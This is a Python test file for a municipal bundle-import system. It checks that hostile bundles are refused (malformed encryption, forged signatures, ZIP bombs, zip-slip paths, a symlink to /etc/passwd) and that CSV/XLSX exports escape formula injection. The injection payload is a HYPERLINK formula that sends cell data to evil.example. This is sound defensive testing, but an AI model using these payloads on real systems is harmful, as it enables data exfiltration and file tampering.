"""F1: a hand-made hostile corpus at the bundle level, through the ministry's real import.

SECURITY.md's test plan: every case gives its documented reason code, no traceback, no
state change, within 1 s and (in one child process for the whole corpus) within a
256 MiB address space. The format-level corpora live in test_safe_zip.py and
test_strict_json.py; here each hostile piece sits inside an otherwise real bundle - the
second bundle of a demo vault, whose first bundle the ministry has already imported, so
that a case that slipped through would import and change the intake database.

Where a case needs a validly signed manifest to reach the check it is about (a manifest
with duplicate keys, a data file with a 70 KiB line), the town's own key signs it
(``tests/support/hostile.py``: the test owns the key), so the deeper check is what fires;
``says`` names a word of the message to show it is that check and not an earlier one.

Also here: wrong JSON types in every field of signed manifests, receipts and provisioning
documents, and A2 - formula injection in the ledger CSV and the ministry's CSV/XLSX report.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import re
import resource
import struct
import subprocess
import sys
import time
import warnings
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]

from kisi_desktop.core.clock import FixedClock
from kisi_desktop.core.domain.bundle_entry import BundleEntry
from kisi_desktop.core.errors import ValidationError
from kisi_desktop.core.i18n import set_ui_language

from kisi_desktop.bundles import age, minisign, strict_json
from kisi_desktop.bundles.keys import signer
from kisi_desktop.bundles.limits import MAX_MANIFEST, MIB
from kisi_desktop.bundles.manifest import INDICATORS, MANIFEST, REPORT, SIGNATURE, sha256_hex
from kisi_desktop.bundles.provisioning import read_provisioning
from kisi_desktop.bundles.reasons import (
    BAD_SIGNATURE,
    CODES,
    MALFORMED,
    OVERSIZED,
    TAMPERED,
    UNKNOWN_MUNICIPALITY,
    UNSUPPORTED_VERSION,
    WRONG_RECIPIENT,
    Rejected,
)
from kisi_desktop.bundles.receipts import Receipt, read_receipt
from kisi_desktop.bundles.safe_zip import read_zip, write_zip
from kisi_desktop.cli.main import main as cli
from kisi_desktop.ministry import registry
from kisi_desktop.ministry.intake import OUTCOME_IMPORTED, OUTCOME_REJECTED, import_bundle
from kisi_desktop.ministry.keys import Ministry, load_ministry

from tests.support.hostile import Town, age_file, b64, legacy_signature, stanza
from tests.support.intake import World, clone, make_world, open_vault
from tests.support.sync import NOW, PASSPHRASE, MinistryKeys, demo_workspace

ROOT = Path(__file__).resolve().parents[3]


@pytest.fixture(autouse=True)
def _english_messages() -> None:
    set_ui_language("en")


@dataclass
class Kit:
    """What the builders need: the town that made bundle 2, and bundle 2 as it was sent."""

    town: Town
    plaintext: bytes
    file: bytes

    @property
    def manifest(self) -> bytes:
        return self.town.members[MANIFEST]

    def signed(self, manifest: bytes) -> bytes:
        """``manifest`` (any bytes) signed by the town with a comment naming its hash."""
        return self.town.encrypt(self.town.signed_members(manifest))

    def edited(self, old: bytes, new: bytes) -> bytes:
        """The real manifest with one edit, signed by the town."""
        assert old in self.manifest, old
        return self.signed(self.manifest.replace(old, new, 1))

    def signature(self, signature: bytes, manifest: bytes | None = None) -> bytes:
        manifest = self.manifest if manifest is None else manifest
        return self.town.encrypt(self.town.signed_members(manifest, signature=signature))

    def zipped(self, entries: list[tuple[zipfile.ZipInfo | str, bytes]]) -> bytes:
        """A ZIP written by :mod:`zipfile` (not by KISI), encrypted to the ministry."""
        buffer = io.BytesIO()
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns about the duplicate names
            with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
                for info, content in entries:
                    archive.writestr(info, content)
        return self.town.encrypt(buffer.getvalue())

    def real_entries(self) -> list[tuple[zipfile.ZipInfo | str, bytes]]:
        return list(self.town.members.items())

    def data(self) -> dict[str, bytes]:
        return {n: b for n, b in self.town.members.items() if n not in (MANIFEST, SIGNATURE)}


@dataclass(frozen=True)
class Case:
    code: str
    says: str
    build: Callable[[Kit], bytes]


CASES: dict[str, Case] = {}


def case(name: str, code: str, says: str = "") -> Callable[[Callable[[Kit], bytes]], None]:
    """Register a corpus entry: what it is, the reason code it must get, a word it says."""

    def register(build: Callable[[Kit], bytes]) -> None:
        assert name not in CASES
        CASES[name] = Case(code, says, build)

    return register


def _scrypt() -> bytes:
    return stanza("scrypt", [b64(os.urandom(16)).decode(), "18"], os.urandom(32))


def _strangers(count: int) -> list[str]:
    return [str(age.Identity.generate().recipient()) for _ in range(count)]


# -- age ------------------------------------------------------------------------------------

case("age: scrypt stanza alone", UNSUPPORTED_VERSION, "Passphrase")(
    lambda kit: age_file(kit.plaintext, [], before=[_scrypt()])
)
case("age: scrypt stanza after the ministry's stanza", UNSUPPORTED_VERSION, "Passphrase")(
    lambda kit: age_file(kit.plaintext, kit.town.recipients, after=[_scrypt()])
)
case("age: 17 stanzas", OVERSIZED, "too many recipients")(
    lambda kit: age.encrypt(
        kit.plaintext, [age.Recipient.parse(r) for r in (*kit.town.recipients, *_strangers(16))]
    )
)
case("age: header over 8 KiB", MALFORMED, "too large")(
    lambda kit: age_file(
        kit.plaintext, kit.town.recipients, before=[stanza("padding", [], os.urandom(7000))]
    )
)
case("age: encrypted to another recipient", WRONG_RECIPIENT, "not encrypted to this key")(
    lambda kit: age.encrypt(kit.plaintext, [age.Recipient.parse(_strangers(1)[0])])
)
case("age: only a stanza of an unknown kind", WRONG_RECIPIENT, "not encrypted to this key")(
    lambda kit: age_file(kit.plaintext, [], before=[stanza("ssh-ed25519", ["Zm9v"], b"x" * 32)])
)
case("age: X25519 share of low order (all zero)", MALFORMED, "header is malformed")(
    lambda kit: age_file(
        kit.plaintext,
        kit.town.recipients,
        before=[stanza("X25519", [b64(bytes(32)).decode()], os.urandom(32))],
    )
)
case("age: ASCII armor", MALFORMED, "ASCII-armored")(
    lambda kit: (
        b"-----BEGIN AGE ENCRYPTED FILE-----\n"
        + b64(kit.file)[:64]
        + b"\n-----END AGE ENCRYPTED FILE-----\n"
    )
)

# -- signature and trusted comment ------------------------------------------------------------


@case('minisign: legacy "Ed" signature on the manifest', BAD_SIGNATURE, "Legacy")
def _legacy(kit: Kit) -> bytes:
    town = kit.town
    signature = legacy_signature(
        kit.manifest, town.private, town.key_id, town.comment(kit.manifest)
    )
    return kit.signature(signature)


@case("minisign: another key id", BAD_SIGNATURE, "Signed with key")
def _other_key_id(kit: Kit) -> bytes:
    return kit.signature(kit.town.sign(kit.manifest, key_id=b"\x01" * 8))


@case("minisign: another key under the town's key id", BAD_SIGNATURE, "does not match")
def _other_key(kit: Kit) -> bytes:
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    return kit.signature(kit.town.sign(kit.manifest, private=Ed25519PrivateKey.generate()))


@case("manifest: names another signing key id", BAD_SIGNATURE, "names signing key")
def _manifest_key_id(kit: Kit) -> bytes:
    other = dataclasses.replace(kit.town.manifest, signer_key_id="0123456789ABCDEF")
    return kit.signed(other.encode())


@case("trusted comment: another seq than the manifest", TAMPERED, "disagree")
def _comment_seq(kit: Kit) -> bytes:
    return kit.signature(kit.town.sign(kit.manifest, comment=kit.town.comment(kit.manifest, seq=3)))


@case("trusted comment: changed after signing", BAD_SIGNATURE, "trusted comment was changed")
def _comment_changed(kit: Kit) -> bytes:
    signature = kit.town.sign(kit.manifest)
    lines = signature.split(b"\n")
    lines[2] = lines[2].replace(b" seq=2 ", b" seq=3 ")
    return kit.signature(b"\n".join(lines))


@case("trusted comment: names another manifest's hash", TAMPERED, "another manifest")
def _comment_hash(kit: Kit) -> bytes:
    comment = kit.town.comment(kit.manifest).rsplit("=", 1)[0] + "=" + sha256_hex(b"other")
    return kit.signature(kit.town.sign(kit.manifest, comment=comment))


@case("trusted comment: an AGS nobody registered", UNKNOWN_MUNICIPALITY, "99999999")
def _comment_ags(kit: Kit) -> bytes:
    comment = kit.town.comment(kit.manifest, ags="99999999")
    return kit.signature(kit.town.sign(kit.manifest, comment=comment))


@case("trusted comment: not a KISI bundle's", MALFORMED, "not a KISI bundle")
def _comment_foreign(kit: Kit) -> bytes:
    return kit.signature(kit.town.sign(kit.manifest, comment="timestamp:1700000000"))


# -- manifest, signed by the town: the strict JSON reader and the schema must refuse -----------

SEQ = b'"seq":2,"signer_key_id"'
case("manifest: duplicate keys", MALFORMED, "appears twice")(
    lambda kit: kit.edited(SEQ, b'"seq":2,"seq":2,"signer_key_id"')
)
case("manifest: nested 10^5 deep", OVERSIZED, "nested")(
    lambda kit: kit.edited(
        b'"pseudonym_scheme":null', b'"pseudonym_scheme":' + b"[" * 10**5 + b"]" * 10**5
    )
)
case("manifest: a 10^6-digit integer", OVERSIZED, "whole number beyond")(
    lambda kit: kit.edited(SEQ, b'"seq":' + b"9" * 10**6 + b',"signer_key_id"')
)
case("manifest: NaN", MALFORMED, "NaN")(lambda kit: kit.edited(SEQ, b'"seq":NaN,"signer_key_id"'))
case("manifest: -Infinity", MALFORMED, "Infinity")(
    lambda kit: kit.edited(SEQ, b'"seq":-Infinity,"signer_key_id"')
)
case("manifest: byte order mark", MALFORMED, "byte order mark")(
    lambda kit: kit.signed(b"\xef\xbb\xbf" + kit.manifest)
)
case("manifest: invalid UTF-8", MALFORMED, "not UTF-8")(
    lambda kit: kit.edited(b'"app_version":"', b'"app_version":"\xc0\xaf')
)
case("manifest: lone surrogate escape", MALFORMED, "surrogate")(
    lambda kit: kit.edited(b'"app_version":"', b'"app_version":"\\ud800')
)
case('manifest: future format "kisi-bundle/2"', UNSUPPORTED_VERSION, "kisi-bundle/2")(
    lambda kit: kit.edited(b'"format":"kisi-bundle/1"', b'"format":"kisi-bundle/2"')
)
case('manifest: unknown profile "p9"', UNSUPPORTED_VERSION, "p9")(
    lambda kit: kit.edited(b'"profile":"p1"', b'"profile":"p9"')
)
case("manifest: a float", MALFORMED, "fraction or exponent")(
    lambda kit: kit.edited(SEQ, b'"seq":2.0,"signer_key_id"')
)
case("manifest: an exponent", MALFORMED, "fraction or exponent")(
    lambda kit: kit.edited(b'"suppression_threshold":5', b'"suppression_threshold":5e0')
)
case("manifest: a number as a string", MALFORMED, "seq")(
    lambda kit: kit.edited(SEQ, b'"seq":"2","signer_key_id"')
)
case("manifest: true for a number", MALFORMED, "seq")(
    lambda kit: kit.edited(SEQ, b'"seq":true,"signer_key_id"')
)
case("manifest: an unknown field", MALFORMED, "unexpected or missing")(
    lambda kit: kit.edited(b'"app_version"', b'"aaa":1,"app_version"')
)
case("manifest: not canonical (a space)", MALFORMED, "canonical")(
    lambda kit: kit.edited(SEQ, b'"seq": 2,"signer_key_id"')
)
case("manifest: larger than 1 MiB", OVERSIZED, "manifest is larger")(
    lambda kit: kit.signed(kit.manifest + b" " * MAX_MANIFEST)
)

# -- the ZIP inside the age payload ------------------------------------------------------------


@case("zip: deflate bomb 1:1000 inside the age payload", OVERSIZED, "compressed more than")
def _bomb(kit: Kit) -> bytes:
    entries = kit.real_entries()
    entries[-1] = (REPORT, b"\n" * (10 * MIB))
    return kit.zipped(entries)


@case("zip: a nested ZIP as a data file (listed and signed)", MALFORMED, "report.jsonl")
def _nested(kit: Kit) -> bytes:
    files = kit.data()
    files[REPORT] = kit.plaintext + b"\n"
    return kit.town.encrypt(kit.town.with_data(files))


@case("zip: ZIP64 entry count in the end record", MALFORMED, "ZIP64")
def _zip64_count(kit: Kit) -> bytes:
    data = bytearray(kit.plaintext)
    struct.pack_into("<HH", data, len(data) - 22 + 8, 0xFFFF, 0xFFFF)
    return kit.town.encrypt(bytes(data))


@case("zip: ZIP64 sizes in a central entry", MALFORMED, "ZIP64")
def _zip64_size(kit: Kit) -> bytes:
    data = bytearray(kit.plaintext)
    central = data.index(b"PK\x01\x02")
    struct.pack_into("<II", data, central + 20, 0xFFFFFFFF, 0xFFFFFFFF)
    return kit.town.encrypt(bytes(data))


@case("zip: ZIP64 locator before the end record", MALFORMED, "ZIP64")
def _zip64_locator(kit: Kit) -> bytes:
    data = kit.plaintext
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, 0, 1)
    end = bytearray(data[-22:])
    # The central directory's offset is unchanged; the locator sits between it and the end.
    return kit.town.encrypt(data[:-22] + locator + bytes(end))


@case("zip: a data file with symlink bits", MALFORMED, "symbolic link")
def _symlink(kit: Kit) -> bytes:
    entries = kit.real_entries()
    info = zipfile.ZipInfo(REPORT)
    info.external_attr = (0o120777 << 16) | 0
    entries[-1] = (info, b"/etc/passwd")
    return kit.zipped(entries)


@case("zip: a duplicate name", MALFORMED, "appears twice")
def _duplicate(kit: Kit) -> bytes:
    return kit.zipped([*kit.real_entries(), (REPORT, b"")])


@case("zip: names that differ only in case", MALFORMED, "appears twice")
def _case_folded(kit: Kit) -> bytes:
    return kit.zipped([*kit.real_entries(), (REPORT.upper(), b"")])


@case("zip: zip slip path", MALFORMED, "'..'")
def _slip(kit: Kit) -> bytes:
    return kit.zipped([*kit.real_entries(), ("data/../../manifest.json", b"{}")])


@case("zip: written by another tool (not KISI's layout)", MALFORMED, "not laid out")
def _other_layout(kit: Kit) -> bytes:
    return kit.zipped(kit.real_entries())


# -- data files, listed in a manifest the town signed --------------------------------------------


@case("data: a line longer than 64 KiB", OVERSIZED, "longer than")
def _long_line(kit: Kit) -> bytes:
    rows = [*kit.town.rows(REPORT), {"table": "publications", "title": "x" * (70 * 1024)}]
    return kit.town.encrypt(
        kit.town.with_rows({INDICATORS: kit.town.rows(INDICATORS), REPORT: rows})
    )


@case("data: record count does not match the manifest", TAMPERED, "number of records")
def _record_count(kit: Kit) -> bytes:
    manifest = kit.town.manifest
    files = tuple(
        dataclasses.replace(f, records=f.records + 1) if f.name == REPORT else f
        for f in manifest.files
    )
    return kit.signed(dataclasses.replace(manifest, files=files).encode())


@case("data: a line that is not an object", MALFORMED, "object")
def _not_object(kit: Kit) -> bytes:
    files = kit.data()
    files[REPORT] = b"[1]\n"
    return kit.town.encrypt(kit.town.with_data(files))


@case("data: duplicate keys in a line", MALFORMED, "appears twice")
def _line_duplicate(kit: Kit) -> bytes:
    files = kit.data()
    files[REPORT] = b'{"table":"needs","table":"volunteers"}\n'
    return kit.town.encrypt(kit.town.with_data(files))


@case("data: changed after signing", TAMPERED, "does not match the manifest")
def _data_changed(kit: Kit) -> bytes:
    members = dict(kit.town.members)
    members[REPORT] = members[REPORT].replace(b'"table"', b'"tablE"', 1)
    return kit.town.encrypt(members)


# -- the world ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    """A ministry with the demo town registered, and the town's two exported bundles."""
    return make_world(tmp_path_factory.mktemp("hostile"), bundles=2, people=12)


def _kit(world: World, ministry: Ministry) -> Kit:
    ws = open_vault(world.vault)
    try:
        me = signer(ws)
    finally:
        ws.lock()
    data = world.bundles[1][1]
    plaintext = age.decrypt(data, ministry.identity)
    members = read_zip(plaintext, allowed=lambda n: True, what="bundle")
    return Kit(Town(me.private, me.key_id, members, (ministry.recipient,)), plaintext, data)


@dataclass
class Intake:
    ministry: Ministry
    kit: Kit
    corpus: dict[str, bytes]


@pytest.fixture(scope="module")
def intake(world: World, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Intake]:
    """The ministry after importing bundle 1, and the corpus built around bundle 2."""
    mine = clone(world, tmp_path_factory.mktemp("intake"))
    with load_ministry(mine.ministry_dir, clock=FixedClock(NOW)) as ministry:
        name, data = world.bundles[0]
        assert import_bundle(ministry, data, name).outcome == OUTCOME_IMPORTED
        kit = _kit(world, ministry)
        corpus = {name: c.build(kit) for name, c in CASES.items()}
        yield Intake(ministry, kit, corpus)


def test_the_builders_make_bundles_that_import(world: World, tmp_path: Path) -> None:
    """Control: re-signed by the test with nothing changed, bundle 2 imports - so every
    refusal below is for the one hostile thing the case adds."""
    mine = clone(world, tmp_path)
    with load_ministry(mine.ministry_dir, clock=FixedClock(NOW)) as ministry:
        first, second = world.bundles
        assert import_bundle(ministry, first[1], first[0]).outcome == OUTCOME_IMPORTED
        kit = _kit(world, ministry)
        town = kit.town
        again = town.encrypt(town.with_rows({n: town.rows(n) for n in (INDICATORS, REPORT)}))
        result = import_bundle(ministry, again, second[0])
        assert (result.outcome, result.reason_code) == (OUTCOME_IMPORTED, None), result.message
        assert result.manifest_sha256 == sha256_hex(kit.manifest)


@pytest.mark.parametrize("name", list(CASES))
def test_hostile_bundle_is_refused_with_its_reason(intake: Intake, name: str) -> None:
    expected = CASES[name]
    ministry = intake.ministry
    before = ministry.store.snapshot()
    started = time.perf_counter()
    result = import_bundle(ministry, intake.corpus[name], f"{name}.kisi")
    elapsed = time.perf_counter() - started
    assert (result.outcome, result.reason_code) == (OUTCOME_REJECTED, expected.code), result.message
    # Which check fired: in the reader's own words (``detail``) where the message is plain.
    assert expected.says in f"{result.message} {result.detail}"
    assert elapsed <= 1.0, f"{elapsed:.2f} s"
    assert ministry.store.snapshot() == before
    # The municipality learns why, from a receipt signed with the receipt key.
    assert result.receipt is not None
    receipt = read_receipt(result.receipt, [ministry.receipt.public])
    assert (receipt.status, receipt.reason_code) == ("rejected", expected.code)


@pytest.mark.parametrize(
    ("damage", "code", "says"),
    [
        ("cut short", TAMPERED, "copied off the USB stick too early"),
        ("header byte flipped", WRONG_RECIPIENT, "written for another office, or it is damaged"),
        ("not a bundle", MALFORMED, "not a KISI bundle"),
    ],
)
def test_a_damaged_bundle_is_refused_in_plain_words(
    intake: Intake, damage: str, code: str, says: str
) -> None:
    """QA 26b: the clerk (and, by the receipt, the guide) read what is wrong with the file
    and what to do about it, not "not an age v1 file"; the reader's words stay in the log."""
    sent = intake.kit.file
    body = sent.index(b"\n", len(b"age-encryption.org/v1\n")) + 5  # in the stanza's body
    other = b"B" if sent[body : body + 1] != b"B" else b"C"
    broken = {
        "cut short": sent[: len(sent) * 2 // 3],
        "header byte flipped": sent[:body] + other + sent[body + 1 :],
        "not a bundle": b"PK\x03\x04" + os.urandom(400),
    }[damage]
    before = intake.ministry.store.snapshot()
    result = import_bundle(intake.ministry, broken, "broken.kisi")
    assert (result.outcome, result.reason_code) == (OUTCOME_REJECTED, code)
    assert intake.ministry.store.snapshot() == before
    assert says in result.message
    assert "Write again" in result.message
    technical = re.compile(r"\bage\b|ZIP|CRC|Deflate|stanza|header", re.IGNORECASE)
    assert not technical.search(result.message)
    assert result.detail and result.detail not in result.message
    assert result.receipt is not None
    receipt = read_receipt(result.receipt, [intake.ministry.receipt.public])
    assert receipt.message == result.message
    set_ui_language("de")
    german = import_bundle(intake.ministry, broken, "broken.kisi").message
    assert not technical.search(german) and "Nochmals schreiben" in german


def _limit_address_space() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (256 * MIB, 256 * MIB))


def test_the_corpus_in_a_256_mib_address_space(
    world: World, intake: Intake, tmp_path: Path
) -> None:
    """One child process, RLIMIT_AS = 256 MiB set before Python starts, imports the whole
    corpus into a copy of the ministry: each case its code, none above 1 s, no traceback,
    the data tables unchanged."""
    mine = clone(world, tmp_path / "world")
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "first.kisi").write_bytes(world.bundles[0][1])
    expected = {}
    for number, (name, data) in enumerate(intake.corpus.items()):
        (corpus / f"{number:02d}.kisi").write_bytes(data)
        expected[f"{number:02d}.kisi"] = CASES[name].code
    (corpus / "expected.json").write_text(json.dumps(expected))
    child = subprocess.run(
        [sys.executable, "-m", "tests.support.hostile", str(mine.ministry_dir), str(corpus)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
        preexec_fn=_limit_address_space,  # before Python starts: imports count too
    )
    assert child.returncode == 0, child.stderr
    assert "Traceback" not in child.stderr
    report = json.loads(child.stdout)
    assert report["limit"] == 256 * MIB
    assert report["tables_unchanged"]
    got = {r["file"]: r["code"] for r in report["cases"]}
    assert got == expected
    assert set(got.values()) <= CODES
    slowest = max(report["cases"], key=lambda r: r["seconds"])
    assert slowest["seconds"] <= 1.0, slowest
    print(
        f"\nF1 under RLIMIT_AS 256 MiB: {len(got)} cases, slowest {slowest['seconds']:.2f} s, "
        f"peak address space {report['peak_address_space_kib'] / 1024:.0f} MiB, "
        f"peak RSS {report['peak_rss_kib'] / 1024:.0f} MiB"
    )


# -- A2: formula injection in the CSV and XLSX files people open in a spreadsheet -------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ATTACK = 'HYPERLINK("http://evil.example/?x="&A1,"click")'
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _formula_like(text: str) -> bool:
    """Whether a spreadsheet would run ``text`` as a formula (a plain number is a number)."""
    return text.startswith(FORMULA_STARTS) and PLAIN_NUMBER.fullmatch(text) is None


def _csv_fields(data: bytes) -> list[str]:
    return [field for row in csv.reader(io.StringIO(data.decode("utf-8"))) for field in row]


def _xlsx_cells(data: bytes) -> list[tuple[str, str, object]]:
    """(sheet, data type, value) of every cell; also no <f> element anywhere in the XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
    book = load_workbook(io.BytesIO(data))
    return [
        (sheet.title, cell.data_type, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def test_the_ledger_csv_escapes_formulas(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """``kisi bundles --csv``: the only free text of the ledger is the file name; whatever
    it holds, no cell of the CSV starts a formula. Tabs and CRs never get into the ledger."""
    ws = demo_workspace(tmp_path / "vault.kisi", 0)
    entry = {
        "epoch": 1, "bundle_id": "0c5e6c57-8d1f-4a43-9c55-4b2f4c9d7a10",
        "manifest_sha256": "ab" * 32, "period_start": date(2026, 1, 1),
        "period_end": date(2026, 3, 31), "created_at": "2026-04-01T00:00:00Z",
        "payload_b64": "AA==", "status": "exported",
    }  # fmt: skip
    for seq, start in enumerate(FORMULA_STARTS, 1):
        if start in "\t\r":
            with pytest.raises(ValidationError):
                ws.add(BundleEntry(seq=seq, file_name=start + ATTACK, **entry))  # type: ignore[arg-type]
        else:
            ws.add(BundleEntry(seq=seq, file_name=start + ATTACK, **entry))  # type: ignore[arg-type]
    ws.lock()
    monkeypatch.setenv("KISI_VAULT", str(tmp_path / "vault.kisi"))
    monkeypatch.setenv("KISI_PASSPHRASE", PASSPHRASE)
    out = tmp_path / "ledger.csv"
    assert cli(["bundles", "--csv", str(out)]) == 0
    fields = _csv_fields(out.read_bytes())
    assert [f for f in fields if _formula_like(f)] == []
    for start in "=+-@":
        assert "'" + start + ATTACK in fields  # the text is kept, as text


@pytest.fixture(scope="module")
def hostile_report(world: World, tmp_path_factory: pytest.TempPathFactory) -> tuple[bytes, bytes]:
    """``kisi ministry report --csv --xlsx`` after importing a bundle whose town wrote
    formulas everywhere the intake lets text through: indicator labels and codes,
    breakdown categories, report table names, column names and cells - and a municipality
    name with a formula in the registry."""
    mine = clone(world, tmp_path_factory.mktemp("a2"))
    with load_ministry(mine.ministry_dir, clock=FixedClock(NOW)) as ministry:
        name, data = world.bundles[0]
        assert import_bundle(ministry, data, name).outcome == OUTCOME_IMPORTED
        town = _kit(world, ministry).town
        registry.register(
            ministry, ags=town.manifest.municipality_ags, name="=" + ATTACK,
            key=minisign.public_key_of(town.private, town.key_id).text(), replace=True,
        )  # fmt: skip
        indicators = town.rows(INDICATORS)
        period = {"from": indicators[0]["from"], "to": indicators[0]["to"]}
        report = town.rows(REPORT)
        for number, start in enumerate(FORMULA_STARTS):
            text = start + ATTACK
            indicators.append(
                {**period, "indicator": f"-{number}-1", "count": 7, "label_de": text,
                 "label_en": text, f"gender.{text}": 5}
            )  # fmt: skip
            report.append(
                {"table": "contacts_by_mode", "code": text, "label": text, "contacts": 7,
                 f"{start}col{number}": text}
            )  # fmt: skip
            report.append({"table": f"-{number}-1", "code": f"row{number}", text: text})
        members = town.with_rows({INDICATORS: indicators, REPORT: report})
        result = import_bundle(ministry, town.encrypt(members), "hostile.kisi")
        assert result.outcome == OUTCOME_IMPORTED, result.message
    folder = mine.ministry_dir
    csv_file, xlsx_file = folder.parent / "report.csv", folder.parent / "report.xlsx"
    argv = ["ministry", "report", "--dir", str(folder), "--csv", str(csv_file),
            "--xlsx", str(xlsx_file), "--report-lang", "en"]  # fmt: skip
    assert cli(argv) == 0
    return csv_file.read_bytes(), xlsx_file.read_bytes()


def test_the_ministry_report_csv_escapes_formulas(hostile_report: tuple[bytes, bytes]) -> None:
    fields = _csv_fields(hostile_report[0])
    assert [f for f in fields if _formula_like(f)] == []
    # The hostile text arrived (the test is not vacuous), as text.
    assert "'=" + ATTACK in fields and "'@" + ATTACK in fields


def test_the_ministry_report_xlsx_has_no_formulas(hostile_report: tuple[bytes, bytes]) -> None:
    cells = _xlsx_cells(hostile_report[1])
    assert [c for c in cells if c[1] == "f"] == []
    texts = [str(value) for _sheet, _kind, value in cells]
    assert "=" + ATTACK in texts and "\t" + ATTACK in texts  # kept, as text


# -- wrong JSON types in signed documents -------------------------------------------------------

WRONG_VALUES: tuple[object, ...] = (
    None, True, 0, -1, 2**63 - 1, "", "x" * 2000, "\u202e", [], [1], {}, {"a": 1},
)  # fmt: skip


def _paths(value: object, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """Every place in a JSON document: keys of objects, the first item of arrays."""
    if path:
        yield path
    if isinstance(value, dict):
        for key in value:
            yield from _paths(value[key], (*path, key))
    elif isinstance(value, list) and value:
        yield from _paths(value[0], (*path, 0))


def _with(document: object, path: tuple[str | int, ...], value: object) -> object:
    copy = json.loads(json.dumps(document))
    target = copy
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = value
    return copy


def _variants(document: object) -> Iterator[tuple[tuple[tuple[str | int, ...], object], bytes]]:
    """Each (place, wrong value) with the document that has it there."""
    for path in _paths(document):
        for value in WRONG_VALUES:
            yield (path, value), strict_json.dumps(_with(document, path, value))


def test_signed_receipts_with_wrong_types_are_refused_with_a_reason() -> None:
    """Signed by the receipt key, so only the strict reading stands between a list where a
    reason code belongs and a traceback."""
    keys = MinistryKeys()
    receipt = Receipt(
        manifest_sha256="ab" * 32, ags="06534011", device_id="0123456789abcdef", epoch=1,
        seq=1, status="rejected", reason_code="tampered", imported_at="2026-11-26T08:00:00Z",
        intake_seq=1, intake_chain_head="cd" * 32, records=0, message="changed",
    )  # fmt: skip
    accepted = []
    for (path, value), body in _variants(receipt.as_json()):
        raw = json.loads(body)
        comment = f"kisi-receipt/1 seq={raw['seq']} status={raw['status']} sha256="
        comment = (comment + sha256_hex(body)).replace("\n", " ")[:1000]
        signature = minisign.sign(body, keys.receipt.private, keys.receipt.key_id,
                                  trusted_comment=comment)  # fmt: skip
        data = write_zip([("receipt.json", body), ("receipt.json.minisig", signature.encode())])
        try:
            read_receipt(data, [keys.receipt.public])
        except Rejected as error:
            assert error.code in CODES
        else:
            accepted.append((path, value))
    # What a receipt may hold in place of the right value, and nothing more: a rejection
    # of a file that could not be opened names no town, device or manifest; counts and
    # sequence numbers may be 0; the message is free text.
    assert set(accepted) == {
        (("manifest_sha256",), None),
        (("ags",), None),
        (("device_id",), None),
        (("epoch",), 0),
        (("seq",), 0),
        (("reason_code",), None),
        (("intake_seq",), 0),
        (("records",), 0),
        (("message",), ""),
        (("message",), "\u202e"),
    }


def test_signed_provisioning_files_with_wrong_types_are_refused_with_a_reason() -> None:
    keys = MinistryKeys()
    document = keys.provisioning(intake_url="https://intake.example/kisi", spki_pins=("ab" * 32,))
    accepted = []
    for (path, value), body in _variants(document.as_json()):
        raw = json.loads(body)
        comment = f"kisi-provisioning/1 version={raw['version']} sha256={sha256_hex(body)}"
        signature = minisign.sign(body, keys.root.private, keys.root.key_id,
                                  trusted_comment=comment.replace("\n", " ")[:1000])  # fmt: skip
        data = write_zip([("provisioning.json", body), ("provisioning.json.minisig",
                                                         signature.encode())])  # fmt: skip
        try:
            read_provisioning(data, pinned_root=keys.root.line)
        except Rejected as error:
            assert error.code in CODES
        else:
            accepted.append((path, value))
    # Without an intake address the stick is the only way; participation rows may be asked.
    assert set(accepted) == {(("intake_url",), None), (("participation_rows",), True)}


def test_signed_manifests_with_wrong_types_never_break_the_intake(
    world: World, tmp_path: Path
) -> None:
    """Every field of the manifest (nested ones too) replaced by values of the wrong type,
    signed by the town: the intake answers with a reason code, never a traceback."""
    mine = clone(world, tmp_path)
    outcomes: Counter[str] = Counter()
    with load_ministry(mine.ministry_dir, clock=FixedClock(NOW)) as ministry:
        name, data = world.bundles[0]
        assert import_bundle(ministry, data, name).outcome == OUTCOME_IMPORTED
        kit = _kit(world, ministry)
        for _change, body in _variants(json.loads(kit.manifest)):
            result = import_bundle(ministry, kit.signed(body), "types.kisi")
            assert result.reason_code is None or result.reason_code in CODES
            outcomes[result.reason_code or result.outcome] += 1
    print(f"\nwrong types in signed manifests: {dict(outcomes.most_common())}")
    assert outcomes[MALFORMED] > 100, outcomes


@pytest.mark.parametrize(
    "row",
    [
        {"table": "contacts_by_mode", "code": [1], "contacts": 7},
        {"table": "contacts_by_mode", "code": "zzz", "label": {"a": 1}, "contacts": 7},
    ],
    ids=["list-code", "object-label"],
)
def test_a_signed_bundle_with_lists_in_report_cells_is_refused(
    world: World, tmp_path: Path, row: dict[str, object]
) -> None:
    """Signed by the town, so only the intake's check of each cell keeps a list or an object
    out of the tables the ministry's report reads: one municipality's broken app must not
    stop the figures for all 42."""
    mine = clone(world, tmp_path / "world")
    with load_ministry(mine.ministry_dir, clock=FixedClock(NOW)) as ministry:
        name, data = world.bundles[0]
        assert import_bundle(ministry, data, name).outcome == OUTCOME_IMPORTED
        town = _kit(world, ministry).town
        report = [*town.rows(REPORT), row]
        members = town.with_rows({INDICATORS: town.rows(INDICATORS), REPORT: report})
        before = ministry.store.snapshot()
